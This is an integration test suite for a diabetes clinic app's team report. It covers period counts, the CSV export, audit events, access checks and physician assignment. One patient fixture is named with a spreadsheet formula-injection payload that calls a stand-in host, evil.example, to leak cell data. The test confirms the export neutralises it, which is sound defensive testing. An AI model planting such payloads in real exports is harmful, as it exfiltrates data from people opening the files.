import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectedCgmSlots } from '@glucoboard/core/domain';
import { BACKENDS } from '@glucoboard/core/test-support/databases';
import { TEAM_REPORT_CSV_COLUMNS } from '@glucoboard/core/wire';
import { ADMIN, buildTeam, PASSWORD, startTestSystem, type TeamFixture } from './support/clinic.ts';
import { Client } from './support/http.ts';

// Issue 15, sections 1, 3 and 6: a team's follow-up report over a period, its CSV export, and the
// responsible physician. A clinic with known readings, alerts and physicians goes in through the
// public API (device gateway, manual entry, acknowledgement); the report's counts come out as
// computed by hand below. Real server, workers, Redis and both database backends.

const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;

interface AuditEvent {
  action: string;
  patientId: string | null;
  teamId: string | null;
  userId: string | null;
  detail: Record<string, unknown>;
}

describe.each(BACKENDS)('the team report on the %s backend', (backend) => {
  let env: Awaited<ReturnType<typeof startTestSystem>>;
  let sys: Client;
  let A: TeamFixture;
  let B: TeamFixture;
  /** The moment the seeded readings are counted back from. */
  let T = 0;
  const at = (minutes: number) => new Date(T + minutes * MINUTE).toISOString();
  /**
   * The report's period: the 150 minutes up to a moment after the alerts were opened and taken (a
   * period cannot end in the future): 30 five-minute slots, and a CGM read a minute before T is
   * still within its 30 no-data minutes at the end.
   */
  let END = 0;
  const FROM = () => new Date(END - 150 * MINUTE).toISOString();
  const TO = () => new Date(END).toISOString();
  const period = () => `from=${encodeURIComponent(FROM())}&to=${encodeURIComponent(TO())}`;
  const p2Sufficiency = () => (100 * 24) / expectedCgmSlots(END - 150 * MINUTE, END);
  let seq = 1;
  let physicianA: string;
  let physicianB: string;
  let formerPhysician: string;
  /** P0 is A's fixture patient (säbo, fingerstick). */
  let P1: string;
  let P2: string;
  let P3: string;

  const gateway = async (deviceId: string, token: string, readings: Array<Record<string, unknown>>) => {
    const answer = await fetch(`${env.system.url}/api/devices/readings`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Device ${deviceId}:${token}` },
      body: JSON.stringify({ readings: readings.map((r) => ({ seq: seq++, ...r })) }),
    });
    expect(await answer.json()).toMatchObject({ ok: true, accepted: readings.length, rejected: [] });
  };
  const user = async (name: string, teamId: string, role: string) => {
    const made = await sys.post('/api/users', {
      email: `${name.toLowerCase().replace(/\W+/g, '.')}.${backend}@example.se`,
      name,
      password: PASSWORD,
    });
    expect(made.status).toBe(201);
    expect((await sys.post(`/api/teams/${teamId}/members`, { userId: made.body.id, role })).status).toBe(201);
    return made.body.id as string;
  };
  const setPhysician = (client: Client, patientId: string, responsiblePhysicianId: string | null) =>
    client.request('PATCH', `/api/patients/${patientId}`, { responsiblePhysicianId });
  const auditOf = async (patientId: string): Promise<AuditEvent[]> => {
    const answer = await sys.get(`/api/audit?patientId=${patientId}`);
    expect(answer.status).toBe(200);
    return answer.body.events;
  };
  const openAlerts = async (teamId: string) =>
    ((await A.nurse.get(`/api/alerts?teamId=${teamId}&state=open`)).body?.alerts ?? []) as Array<{
      id: string;
      patientId: string;
      rule: string;
    }>;

  beforeAll(async () => {
    env = await startTestSystem(backend);
    T = Date.now();
    sys = await env.client().login(ADMIN.email, ADMIN.password);
    A = await buildTeam(sys, env.system.url, `Report A ${backend}`);
    B = await buildTeam(sys, env.system.url, `Report B ${backend}`);
    physicianA = await user('Doktor Ansvarig', A.teamId, 'physician');
    formerPhysician = await user('Doktor Slutat', A.teamId, 'physician');
    physicianB = await user('Doktor Annan', B.teamId, 'physician');

    // P0 (säbo, fingerstick): five in range, then 2.5 ten minutes ago (a critical urgent_low, fresh);
    // one reading before the period (the period before it, for the TIR drop).
    expect((await setPhysician(A.admin, A.patientId, physicianA)).status).toBe(200);
    await gateway(A.deviceId, A.deviceToken, [
      { measuredAt: at(-200), mmol: 6.5 },
      ...[6.0, 7.0, 8.0, 5.0, 9.0].map((mmol, i) => ({ measuredAt: at(-100 + 10 * i), mmol })),
      { measuredAt: at(-10), mmol: 2.5 },
    ]);

    // P1 (säbo, no physician), a name that a spreadsheet would run as a formula: two typed-in values,
    // 14.5 a warning (high) that nobody takes.
    const p1 = await A.admin.post('/api/patients', {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
      teamId: A.teamId,
      labels: ['säbo'],
    });
    P1 = p1.body.id;
    for (const [minutes, mmol] of [
      [-40, 6.0],
      [-20, 14.5],
    ] as const) {
      expect((await A.nurse.post(`/api/patients/${P1}/readings`, { measuredAt: at(minutes), mmol })).status).toBe(201);
    }

    // P2 (no label, physician A): a CGM at 6.0 every 5 minutes for the last two hours: 24 of the
    // period's 30 slots.
    const p2 = await A.admin.post('/api/patients', { name: 'Sensorbärare', teamId: A.teamId });
    P2 = p2.body.id;
    expect((await setPhysician(A.admin, P2, physicianA)).status).toBe(200);
    const sensor = await A.admin.post('/api/devices', { serial: `report-cgm-${backend}`, kind: 'cgm', patientId: P2 });
    await gateway(
      sensor.body.deviceId,
      sensor.body.token,
      Array.from({ length: 24 }, (_, k) => ({ measuredAt: at(-1 - 5 * k), mmol: 6.0, kind: 'cgm' })),
    );

    // P3 (säbo): no readings; its physician has since left the team, so it does not count as having one.
    const p3 = await A.admin.post('/api/patients', { name: 'Utan värden', teamId: A.teamId, labels: ['säbo'] });
    P3 = p3.body.id;
    expect((await setPhysician(A.admin, P3, formerPhysician)).status).toBe(200);
    expect((await sys.request('DELETE', `/api/teams/${A.teamId}/members/${formerPhysician}`)).status).toBe(204);

    // The workers open P0's urgent_low and P1's high; the nurse takes the critical one.
    const expected = [`${A.patientId}:urgent_low`, `${P1}:high`].sort().join(' ');
    let seen = '';
    for (const until = Date.now() + 20_000; Date.now() < until && seen !== expected; ) {
      seen = (await openAlerts(A.teamId))
        .map((a) => `${a.patientId}:${a.rule}`)
        .sort()
        .join(' ');
      if (seen !== expected) await new Promise((resolve) => setTimeout(resolve, 200));
    }
    expect(seen).toBe(expected);
    const critical = (await openAlerts(A.teamId)).find((a) => a.rule === 'urgent_low')!;
    expect((await A.nurse.post(`/api/alerts/${critical.id}/ack`, { action: 'phone' })).status).toBe(200);
    END = Date.now();
  });
  afterAll(() => env?.stop());

  it('counts the seeded clinic as computed by hand', async () => {
    const answer = await A.nurse.get(`/api/teams/${A.teamId}/report?${period()}`);
    expect(answer.status).toBe(200);
    const r = answer.body;
    expect(r.period).toEqual({ from: FROM(), to: TO() });
    expect(r.days).toBeCloseTo(150 / (24 * 60), 10);
    expect(r.patients).toBe(4);
    expect(r.withPhysician).toBe(2); // P0 and P2; P3's physician left the team
    expect(r.labels).toEqual([{ label: 'säbo', patients: 3, withPhysician: 1 }]);
    // P0: 5 of 6 in range (tir met), 2.5 is 17 % very low (below not met), none above.
    // P1: 6.0 and 14.5, 50 % in range and 50 % very high. P2: all 6.0 in 24 of the 30 slots.
    expect(r.targets).toEqual({
      evaluated: 3,
      tirMet: 2,
      belowMet: 2,
      aboveMet: 2,
      sufficientData: 1,
      cgm: 1,
      allMet: 1,
    });
    expect(r.alerts).toMatchObject({
      opened: 2,
      bySeverity: { critical: 1, warning: 1, info: 0 },
      byRule: { urgent_low: 1, low: 0, high: 1, urgent_high: 0, no_data: 0, rapid_change: 0 },
      acknowledged: 1,
      escalated: 0,
      retrospective: 0,
    });
    // Taken within seconds of opening.
    expect(r.alerts.medianMinutesToAck).toBeGreaterThanOrEqual(0);
    expect(r.alerts.medianMinutesToAck).toBeLessThan(1);
    expect(r.alerts.ackTimes.buckets[0]).toEqual({ upToMinutes: 5, alerts: 1 });
    expect(r.alerts.ackTimes.unacknowledged).toBe(1);
    expect(r.readings).toEqual({ total: 32, bySource: { device: 30, manual: 2, import: 0 } });
    expect(r.tirDistribution.filter((b: { patients: number }) => b.patients > 0)).toEqual([
      { from: 50, to: 60, patients: 1 },
      { from: 80, to: 90, patients: 1 },
      { from: 90, to: 100, patients: 1 },
    ]);
    // The follow-up order: the acknowledged critical, the open warning, no data, then the calm one.
    expect(r.followUp.map((p: { id: string; triage: { category: string } }) => [p.id, p.triage.category])).toEqual([
      [A.patientId, 'critical_acknowledged'],
      [P1, 'warning_alert'],
      [P3, 'too_little_data'],
      [P2, 'rest'],
    ]);
    const p2 = r.followUp.find((p: { id: string }) => p.id === P2);
    expect(p2).toMatchObject({
      monitoring: 'cgm',
      readings: 24,
      sufficientData: true,
      responsiblePhysician: { id: physicianA, name: 'Doktor Ansvarig', teamPhysician: true },
      met: { tir: true, below: true, above: true },
    });
    // 24 of the clock's slots the 150 minutes overlap: 30, or 31 when the period starts inside one.
    expect(p2.dataSufficiency).toBeCloseTo(p2Sufficiency(), 10);
    expect(r.followUp.find((p: { id: string }) => p.id === P3).responsiblePhysician).toMatchObject({
      id: formerPhysician,
      teamPhysician: false,
    });
  });

  it('defaults to the last 28 days and gives the same patients', async () => {
    const before = Date.now();
    const answer = await A.admin.get(`/api/teams/${A.teamId}/report`);
    expect(answer.status).toBe(200);
    const to = Date.parse(answer.body.period.to);
    expect(to).toBeGreaterThanOrEqual(before - 1000);
    expect(to - Date.parse(answer.body.period.from)).toBe(28 * DAY);
    expect(answer.body).toMatchObject({ patients: 4, withPhysician: 2, readings: { total: 33 } });
    // A period that reaches into tomorrow ends now.
    const tomorrow = new Date(Date.now() + DAY).toISOString().slice(0, 10);
    const future = await A.admin.get(
      `/api/teams/${A.teamId}/report?from=${encodeURIComponent(at(-300))}&to=${tomorrow}`,
    );
    expect(future.status).toBe(200);
    expect(Date.parse(future.body.period.to)).toBeLessThanOrEqual(Date.now());
    expect(Date.parse(future.body.period.to)).toBeGreaterThanOrEqual(before - 1000);
  });

  it('answers another team, an unknown team and a malformed id with 404', async () => {
    expect((await B.admin.get(`/api/teams/${A.teamId}/report`)).status).toBe(404);
    expect((await B.nurse.get(`/api/teams/${A.teamId}/report?format=csv`)).status).toBe(404);
    expect((await A.admin.get(`/api/teams/00000000-0000-4000-8000-000000000000/report`)).status).toBe(404);
    expect((await A.admin.get(`/api/teams/not-a-team/report`)).status).toBe(404);
    expect((await new Client(env.system.url).get(`/api/teams/${A.teamId}/report`)).status).toBe(401);
  });

  it('refuses a bad period with a code naming the field', async () => {
    const report = (query: string) => A.nurse.get(`/api/teams/${A.teamId}/report?${query}`);
    const later = await report(`from=${new Date(Date.now() + 2 * DAY).toISOString().slice(0, 10)}`);
    expect(later.body.error).toMatchObject({ code: 'PERIOD_REVERSED', field: 'to' });
    const reversed = await report('from=2026-03-10&to=2026-03-01');
    expect(reversed.status).toBe(400);
    expect(reversed.body.error).toMatchObject({ code: 'PERIOD_REVERSED', field: 'to' });
    const long = await report('from=2024-01-01&to=2025-06-30');
    expect(long.status).toBe(400);
    expect(long.body.error).toMatchObject({ code: 'PERIOD_TOO_LONG', field: 'from' });
    const garbage = await report('from=yesterday');
    expect(garbage.status).toBe(400);
    expect(garbage.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'from' });
    const noDay = await report('from=2026-02-30');
    expect(noDay.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'from' });
    const format = await report('format=xlsx');
    expect(format.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'format' });
    // A whole leap year of days is a valid period.
    expect((await report('from=2024-01-01&to=2024-12-31')).status).toBe(200);
  });

  it('exports one CSV row per patient in the follow-up order, formulas neutralised', async () => {
    const answer = await A.nurse.get(`/api/teams/${A.teamId}/report?${period()}&format=csv`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="team-report-\d{8}T\d{4}Z-/);
    const lines = answer.text.trimEnd().split('\n');
    expect(lines[0]).toBe(TEAM_REPORT_CSV_COLUMNS.join(','));
    expect(lines).toHaveLength(5);
    const ids = lines.slice(1).map((line) => line.split(',')[2]);
    expect(ids).toEqual([A.patientId, P1, P3, P2]);
    // The name that would be a formula starts with ' and is quoted, its quotes doubled.
    expect(lines[2]).toContain(
      `,"'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")",säbo,,standard,bgm,2,0,0,50,50,50,`,
    );
    const p2 = lines[4]!.split(',');
    const column = (name: (typeof TEAM_REPORT_CSV_COLUMNS)[number]) => p2[TEAM_REPORT_CSV_COLUMNS.indexOf(name)];
    expect(column('responsible_physician')).toBe('Doktor Ansvarig');
    expect(column('in_range_pct')).toBe('100');
    expect(column('data_sufficiency_pct')).toBe(String(Math.round(p2Sufficiency() * 10) / 10));
    expect(column('sufficient_data')).toBe('yes');
    expect(column('follow_up')).toBe('rest');
  });

  it('records each patient shown, the JSON read and the CSV export apart, in the team', async () => {
    const reader = A.admin;
    await reader.get(`/api/teams/${A.teamId}/report?${period()}`);
    await reader.get(`/api/teams/${A.teamId}/report?${period()}&format=csv`);
    for (const patientId of [A.patientId, P1, P2, P3]) {
      const events = (await auditOf(patientId)).filter(
        (e) => e.userId === A.adminId && (e.action === 'report.read' || e.action === 'report.export'),
      );
      const read = events.find((e) => e.action === 'report.read' && e.detail.format === 'json');
      const exported = events.find((e) => e.action === 'report.export');
      expect(read, patientId).toMatchObject({ teamId: A.teamId, detail: { from: FROM(), to: TO() } });
      expect(exported, patientId).toMatchObject({ teamId: A.teamId, detail: { format: 'csv', from: FROM() } });
    }
    // Another team's refused read leaves nothing about A's patients.
    await B.admin.get(`/api/teams/${A.teamId}/report`);
    const byB = (await auditOf(A.patientId)).filter((e) => e.userId === B.adminId);
    expect(byB).toEqual([]);
  });

  describe('the responsible physician', () => {
    it("accepts only a physician of the patient's team, and only from a team admin", async () => {
      const patient = A.patientId;
      for (const wrong of [physicianB, A.nurseId, formerPhysician, '00000000-0000-4000-8000-000000000000']) {
        const refused = await setPhysician(A.admin, patient, wrong);
        expect(refused.status, wrong).toBe(400);
        expect(refused.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'responsiblePhysicianId' });
      }
      expect((await setPhysician(A.nurse, patient, physicianA)).status).toBe(403);
      expect((await setPhysician(B.admin, patient, physicianB)).status).toBe(404);
      const still = await A.nurse.get(`/api/patients/${patient}`);
      expect(still.body).toMatchObject({
        responsiblePhysicianId: physicianA,
        responsiblePhysicianName: 'Doktor Ansvarig',
      });
    });

    it('is shown with the patient and on the board row, and its change is audited', async () => {
      const second = await user('Doktor Ny', A.teamId, 'physician');
      const changed = await setPhysician(A.admin, P1, second);
      expect(changed.status).toBe(200);
      expect(changed.body).toMatchObject({ responsiblePhysicianId: second, responsiblePhysicianName: 'Doktor Ny' });
      const board = await A.nurse.get(`/api/board?teamId=${A.teamId}`);
      const rowOf = (id: string) => board.body.patients.find((p: { id: string }) => p.id === id);
      expect(rowOf(P1).responsiblePhysician).toEqual({ id: second, name: 'Doktor Ny' });
      expect(rowOf(P2).responsiblePhysician).toEqual({ id: physicianA, name: 'Doktor Ansvarig' });
      expect(rowOf(P3).responsiblePhysician).toEqual({ id: formerPhysician, name: 'Doktor Slutat' });

      const cleared = await setPhysician(A.admin, P1, null);
      expect(cleared.body).toMatchObject({ responsiblePhysicianId: null, responsiblePhysicianName: null });
      const updates = (await auditOf(P1)).filter((e) => e.action === 'patient.update' && e.userId === A.adminId);
      // Newest first: cleared, then set.
      expect(updates.slice(0, 2).map((e) => e.detail.physician)).toEqual([
        { from: second, to: null },
        { from: null, to: second },
      ]);
      // The report counts it: P1 now has none again.
      const report = await A.nurse.get(`/api/teams/${A.teamId}/report?${period()}`);
      expect(report.body.withPhysician).toBe(2);
    });
  });
});
